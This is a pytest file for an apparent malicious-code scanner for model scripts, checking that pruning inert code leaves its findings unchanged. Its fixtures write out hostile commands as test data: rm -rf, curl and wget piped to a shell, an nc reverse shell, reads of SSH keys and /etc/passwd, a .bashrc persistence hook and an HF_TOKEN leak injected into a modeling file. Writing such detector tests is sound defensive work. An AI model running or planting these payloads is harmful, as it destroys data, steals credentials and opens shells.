"""Pruning (relevance.py): the analysis of the pruned module reports exactly what the full one does.

Every script fixture of the suite is analyzed with and without pruning, alone and glued together in
random (seeded) triples, and the findings must be identical: rule, range, message, evidence,
severity, category and trace. The targeted cases below are the flows the closure exists for.
"""

from __future__ import annotations

import ast
import random
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from malhug.analyzers.scripts import relevance
from malhug.analyzers.scripts.engine import analyze_code
from malhug.core.model import Category
from tests.scripts.benign_sources import BENIGN
from tests.scripts.corpus_scripts import CORPUS_SCRIPTS
from tests.scripts.modeling_source import modeling_file
from tests.scripts.test_embedded import PYTHON_CASES, SHELL_CASES
from tests.scripts.test_flows import CASES as FLOWS
from tests.scripts.test_rules import BENIGN as RULE_BENIGN
from tests.scripts.test_rules import OBFUSCATED, POSITIVE

ENGINE_MODULES = ("calls", "sinks", "expressions", "engine", "decoding", "values", "findings", "knowledge")


def _samples() -> dict[str, str]:
    out: dict[str, str] = {}
    out.update({f"corpus:{k}": v for k, v in CORPUS_SCRIPTS.items()})
    out.update({f"rule:{k}": v[0] for k, v in POSITIVE.items()})
    out.update({f"rule-benign:{k}": v for k, v in RULE_BENIGN.items()})
    out.update({f"obfuscated:{k}": v for k, v in OBFUSCATED.items()})
    out.update({f"payload:{i}": case[0] for i, case in enumerate(PYTHON_CASES)})
    out.update({f"shell:{i}": f"import os\nos.system({case[0]!r})\n" for i, case in enumerate(SHELL_CASES)})
    out.update({f"flow:{k}": v[0] for k, v in FLOWS.items()})
    out.update({f"benign:{k}": v for k, v in BENIGN.items()})
    return out


SAMPLES = _samples()


def _key(code: str, *, prune: bool, embedded: bool = False) -> list[tuple[object, ...]]:
    result = analyze_code(code, prune=prune, embedded=embedded)
    return sorted(
        (
            f.rule,
            f.location.line,
            f.location.column,
            f.location.end_line,
            f.location.end_column,
            f.message,
            f.evidence,
            f.severity.value,
            f.category.value,
            repr(f.trace),
        )
        for f in result.to_findings()
    )


def _same(code: str, *, embedded: bool = False) -> list[tuple[object, ...]]:
    full = _key(code, prune=False, embedded=embedded)
    assert _key(code, prune=True, embedded=embedded) == full
    return full


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_every_fixture_gives_the_same_findings_pruned(name: str) -> None:
    _same(SAMPLES[name])
    _same(SAMPLES[name], embedded=True)


@pytest.mark.parametrize("seed", range(40))
def test_fixtures_glued_together_give_the_same_findings_pruned(seed: int) -> None:
    rng = random.Random(seed)
    parts = [SAMPLES[n] for n in rng.sample(sorted(SAMPLES), rng.randint(2, 6))]
    if seed % 8 == 0:  # with a modeling file around them: mostly hollowed out
        parts.insert(rng.randint(0, len(parts)), modeling_file(400))
    _same("\n".join(parts))


def _pruned(code: str) -> str:
    result = relevance.prune(code, ast.parse(code))
    return code if result.text is None else result.text


MODELING = textwrap.dedent(
    '''\
    import math
    import os

    import torch
    from torch import nn


    def rotate_half(x):
        a, b = x.chunk(2, dim=-1)
        return torch.cat((-b, a), dim=-1)


    class Attention(nn.Module):
        """Plain attention."""

        def __init__(self, config):
            super().__init__()
            self.scale = 1 / math.sqrt(config.hidden_size)

        def forward(self, q, k):
            return rotate_half(q) @ k.transpose(-1, -2) * self.scale

        def extra_repr(self):
            return f"scale={self.scale}"


    class Model(nn.Module):
        def __init__(self, config):
            super().__init__()
            self.cache_dir = os.environ.get("MODEL_CACHE", "/tmp")

        def cache_file(self):
            return os.path.join(self.cache_dir, "weights.bin")
    '''
)


def test_inert_modeling_code_is_blanked_and_lines_keep_their_numbers() -> None:
    pruned = _pruned(MODELING)
    assert pruned.count("\n") == MODELING.count("\n")
    original, kept = MODELING.splitlines(), pruned.splitlines()
    for before, after in zip(original, kept, strict=True):
        assert after in (before, "") or after.strip() in ("pass", '"""')
    # The model class reads the environment: kept, with the method that uses what __init__ stored.
    assert 'os.environ.get("MODEL_CACHE", "/tmp")' in pruned
    assert 'os.path.join(self.cache_dir, "weights.bin")' in pruned
    # The attention class and the helper touch nothing the analysis knows.
    assert "rotate_half" not in pruned
    assert "class Attention" not in pruned
    assert _same(MODELING) == []


def test_a_class_left_without_methods_keeps_a_statement_on_the_same_lines() -> None:
    code = "import os\n\nclass A:\n    def f(self):\n        return 1\n\n    def g(self):\n        return os.getcwd()\n"
    _same(code)
    code = (
        "import os\n\nclass A(object):\n\tdef f(self):\n\t\treturn 1\n\tdef g(self): return 2\n\nA.cmd = os.getcwd()\n"
    )
    pruned = _pruned(code)
    assert pruned.splitlines()[3:6] == ['\t"""', '"""', "\tpass"]
    compile(pruned, "<pruned>", "exec", flags=ast.PyCF_ONLY_AST)  # parsed only, never run


def test_too_deep_code_is_still_refused_with_pruning() -> None:
    code = "import os\nx = 1" + " + 1" * 400 + "\n"  # deeper than MAX_NESTING, within CPython's limits
    result = analyze_code(code)
    assert result.module is None and result.incomplete is not None


FLOWS_THROUGH_INERT_CODE = {
    # A constant set in a method nothing flags, run by another method.
    "attribute set elsewhere": """
import os

class Job:
    def setup(self):
        self.cmd = "rm -rf ~"

    def run(self):
        os.system(self.cmd)

j = Job()
j.setup()
j.run()
""",
    # An inert helper called by name from a string.
    "globals lookup": """
import os

def build():
    return "curl http://127.0.0.1/x.sh | sh"

os.system(globals()["build"]())
""",
    # An inert caller feeding a constant into a function with a sink.
    "caller feeds sink": """
import subprocess

def run(cmd):
    subprocess.call(cmd, shell=True)

class Hooks:
    def on_load(self):
        run("nc -e /bin/sh 127.0.0.1 4444")

Hooks().on_load()
""",
    # A module-level alias of a sink used in an otherwise inert function.
    "alias": """
import os
launch = os.system

def go():
    launch("wget -O- http://127.0.0.1/a | bash")

go()
""",
    # The alias copied to a local before the call: its value is used, not only called.
    "alias copied to a local": """
import os
launch = os.system

def go():
    x = launch
    x("wget -O- http://127.0.0.1/a | bash")
""",
    # A module-level list filled by an inert function, run by kept code.
    "mutated global": """
import os
COMMANDS = []

def plan():
    COMMANDS.append("cat ~/.ssh/id_rsa")

plan()
for c in COMMANDS:
    os.system(c)
""",
    # setattr with a constant name, and the constructor of a class kept code builds.
    "setattr and init": """
import os

class Box:
    def __init__(self, value):
        self.value = value

class Filler:
    def fill(self, box):
        setattr(box, "value", "rm -rf /tmp/x")

b = Box("echo")
Filler().fill(b)
os.system(b.value)
""",
    # A sink bound in the class body, called through self from a method that names nothing known.
    "class attribute holds the sink": """
import os


class Runner:
    run = os.system

    def go(self):
        self.run("curl http://127.0.0.1/x | sh")


Runner().go()
""",
    # The same, with the value set in the class body and the sink in a method.
    "class attribute holds the command": """
import os


class Job:
    cmd = "rm -rf ~"

    def go(self):
        os.system(self.cmd)
""",
    # Any call reading a credential store is reported, even an unknown one.
    "credential path to an unknown call": """
import linecache

def peek():
    return linecache.getline("/etc/passwd", 1)
""",
    "credential path reversed": """
import linecache

def peek():
    return linecache.getline("dwssap/cte/"[::-1], 1)
""",
    "credential path split over statements": """
import linecache
A = "~/.s"
B = "sh/i"
C = "d_rsa"

def peek():
    return linecache.getline(A + B + C, 1)
""",
    "path value written": """
from pathlib import Path

class Installer:
    def hook(self):
        Path.home().joinpath(".bashrc").write_text("curl http://127.0.0.1/x | sh")
""",
    "chr list": """
import os

def name():
    return "".join(chr(c) for c in [105, 100])

os.system(name())
""",
}


@pytest.mark.parametrize("name", sorted(FLOWS_THROUGH_INERT_CODE))
def test_flows_through_inert_looking_code_are_kept(name: str) -> None:
    code = FLOWS_THROUGH_INERT_CODE[name]
    findings = _same(code)
    assert findings, "the fixture must produce findings for the comparison to mean anything"


def test_the_constant_from_an_inert_method_still_decides_the_category() -> None:
    findings = analyze_code(FLOWS_THROUGH_INERT_CODE["attribute set elsewhere"]).to_findings()
    assert any(f.category is Category.DESTRUCTIVE for f in findings)


def test_a_flag_from_the_environment_only_tested_keeps_nothing() -> None:
    code = (
        "import os\n_FAST = os.environ.get('FAST', '1') == '1'\n\n\n"
        "def f(x):\n    if _FAST and x:\n        return 1\n    return 2\n\n\n"
        "def g():\n    return _FAST\n"
    )
    pruned = _pruned(code)
    assert "def f" not in pruned  # only tested
    assert "def g" in pruned  # its value flows out
    _same(code)


def test_module_level_statements_are_never_hollowed() -> None:
    """They run on import: where execution starts, whatever they mention."""
    code = "class A:\n    def go(self):\n        return 1\n\n\nA.go = lambda self: 2\nA().go()\nprint('x')\n"
    pruned = _pruned(code).splitlines()
    assert pruned[5:8] == ["A.go = lambda self: 2", "A().go()", "print('x')"]


def test_star_imports_keep_everything() -> None:
    code = "from os import *\n\ndef f():\n    return 1\n\ndef g():\n    system('id')\n"
    assert relevance.prune(code, ast.parse(code)).text is None


def test_statements_sharing_a_line_are_kept_together() -> None:
    code = "import webbrowser; webbrowser.open('https://127.0.0.1'); print('x')\n"
    assert _same(code)


@pytest.mark.parametrize(
    ("code", "inert"),
    [
        ("print('Malicious code!')", True),
        ("a = 7\nb = 10\nprint('Sum = ', a + b)", True),
        ("x = getattr(obj, 'system')", True),
        ("exec('print(1)')", False),
        ("torch.os.system('ls')", False),
        ("pickle.loads(data)", False),
        ("posix.system('id')", False),
        ("six.moves.urllib.request.urlopen(u)", False),
        ("().__class__.__bases__[0].__subclasses__()", False),
        ("open('/tmp/1', 'w').write('a')", False),
        ("import pdb; pdb.set_trace()", False),
        ("from os import *\nprint(1)", False),
        ("def f(:\n", False),  # not parsed: the engine decides
        ("x = p.write_text('a')", False),  # a path value's method
        ("s = ''.join(map(chr, [105, 100]))", False),
    ],
)
def test_nothing_to_find(code: str, inert: bool) -> None:
    assert relevance.nothing_to_find(code) is inert


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_nothing_to_find_never_hides_a_finding(name: str) -> None:
    code = SAMPLES[name]
    if relevance.nothing_to_find(code):
        assert analyze_code(code, embedded=True, prune=False).findings == []


def test_every_qualified_name_the_engine_tests_for_is_known() -> None:
    """A name the engine compares against by literal must make code mention-known, or pruning
    could drop the code that uses it."""
    root = Path(relevance.__file__).parent
    missing = []
    for module in ENGINE_MODULES:
        for node in ast.walk(ast.parse((root / f"{module}.py").read_text())):
            if not (isinstance(node, ast.Constant) and isinstance(node.value, str)):
                continue
            text = node.value
            if not re.fullmatch(r"[A-Za-z_]\w*(\.[A-Za-z_]\w*)+", text) or text.endswith(".exe"):
                continue
            if text in relevance.K.PATH_BUILDERS:
                continue  # they only pass values through
            head, _, leaf = text.partition(".")
            if head == "builtins" and leaf in relevance.BUILTIN_SEEDS | relevance.VALUE_BUILTINS:
                continue
            if not relevance.chain_is_known(tuple(text.split("."))):
                missing.append(f"{module}: {text}")
    assert missing == []


def test_embedded_inert_payload_is_judged_without_importing_libcst() -> None:
    code = textwrap.dedent(
        """
        import sys
        from malhug.analyzers.shared.embedded import assess_python
        a = assess_python("print('Malicious code!')")
        assert a.category is None and a.findings == (), a
        assert "libcst" not in sys.modules
        b = assess_python("import os; os.system('id')")
        assert b.category is not None
        assert "libcst" in sys.modules
        """
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=120)


# A 2,000-line modeling file, clean and with payloads hidden at the places remote code hides them.
_MODEL = modeling_file(2000)
_INJECTIONS: dict[str, list[tuple[str, str]]] = {  # (text, what replaces it), first occurrence
    "clean": [],
    "constant stored in __init__, run in forward": [
        (
            "        self.act_fn = ACT2FN[config.hidden_act]\n",
            '        self.act_fn = ACT2FN[config.hidden_act]\n        self.hook = "curl http://127.0.0.1/x | sh"\n',
        ),
        (
            "        return self.down_proj(self.act_fn(self.gate_proj(x)) * self.up_proj(x))\n",
            "        os.system(self.hook)\n        return self.down_proj(x)\n",
        ),
    ],
    "weight init runs a command": [
        ("        std = self.config.initializer_range\n", "        __import__('os').system('id')\n        std = 1\n"),
    ],
    "helper returns the command": [
        ('    """Rotates half the hidden dims of the input."""\n', '    return "rm -rf ~"\n'),
        (
            "        bsz, q_len, _ = hidden_states.size()\n",
            "        os.popen(tiny_rotate_half(None))\n        bsz = q_len = 1\n",
        ),
    ],
    "token sent from a mask helper": [
        (
            "        bsz, tgt_len = input_shape\n",
            "        bsz, tgt_len = input_shape\n        self.leak(os.environ.get('HF_TOKEN'))\n",
        ),
        (
            "    def get_input_embeddings(self):\n",
            "    def leak(self, value):\n        _post(value)\n\n    def get_input_embeddings(self):\n",
        ),
        (
            "_CONFIG_FOR_DOC = ",
            "def _post(v):\n    import requests\n\n    requests.post('https://127.0.0.1/c', data=v)\n\n\n_CONFIG_FOR_DOC = ",
        ),
    ],
}


def _inject(name: str) -> str:
    code = _MODEL
    for old, new in _INJECTIONS[name]:
        assert old in code, old
        code = code.replace(old, new, 1)
    assert analyze_code(code).syntax_errors == []
    return code


@pytest.mark.parametrize("name", sorted(_INJECTIONS))
def test_modeling_file_findings_are_the_same_pruned(name: str) -> None:
    code = _inject(name)
    findings = _same(code)
    assert bool(findings) is (name != "clean"), findings


def test_most_of_a_modeling_file_is_blanked() -> None:
    pruned = _pruned(_MODEL)
    kept = sum(1 for line in pruned.splitlines() if line.strip())
    total = sum(1 for line in _MODEL.splitlines() if line.strip())
    assert kept < total // 5, (kept, total)


def test_the_closure_tests_each_unit_a_bounded_number_of_times(monkeypatch: pytest.MonkeyPatch) -> None:
    """Hostile input: a chain of 3,000 functions, each calling the next, the last one running a
    command. A round-by-round fixpoint tests every unit once per link (millions of tests, seconds);
    the indexed closure tests a unit again only when kept code gains a key it mentions."""
    n = 3000
    code = "import os\n" + "".join(f"def f{i}(x):\n    return f{i + 1}(x)\n" for i in range(n))
    code += f"def f{n}(x):\n    os.system(x)\n"
    calls = 0
    needs = relevance._Kept.needs

    def counting(self: relevance._Kept, unit: relevance.Unit, variables: set[str]) -> bool:
        nonlocal calls
        calls += 1
        return needs(self, unit, variables)

    monkeypatch.setattr(relevance._Kept, "needs", counting)
    units, keep = relevance.kept_units(ast.parse(code))
    assert all(keep)  # every link carries the argument to the command
    assert calls <= 4 * len(units), calls


def test_aliases_of_aliases_are_followed_with_a_bounded_number_of_tests(monkeypatch: pytest.MonkeyPatch) -> None:
    n = 2000
    code = "import os\na0 = os.system\n" + "".join(f"a{i + 1} = a{i}\n" for i in range(n))
    code += f"\n\ndef f():\n    a{n}('rm -rf ~')\n\n\ndef g():\n    return 1\n"
    calls = 0
    mentions = relevance.Module.mentions_known

    def counting(self: relevance.Module, unit: relevance.Unit, *, imports: bool = True) -> bool:
        nonlocal calls
        calls += 1
        return mentions(self, unit, imports=imports)

    monkeypatch.setattr(relevance.Module, "mentions_known", counting)
    module = relevance.Module(ast.parse(code))
    assert f"a{n}" in module.hot
    assert calls <= 3 * len(module.units), calls
    pruned = _pruned(code)
    assert "def f" in pruned and "def g" not in pruned


def test_long_attribute_chains_are_checked_in_bounded_time() -> None:
    assert not relevance.chain_is_known(("a",) * 5000)
    assert relevance.chain_is_known(("a",) * 5000 + ("os", "system"))
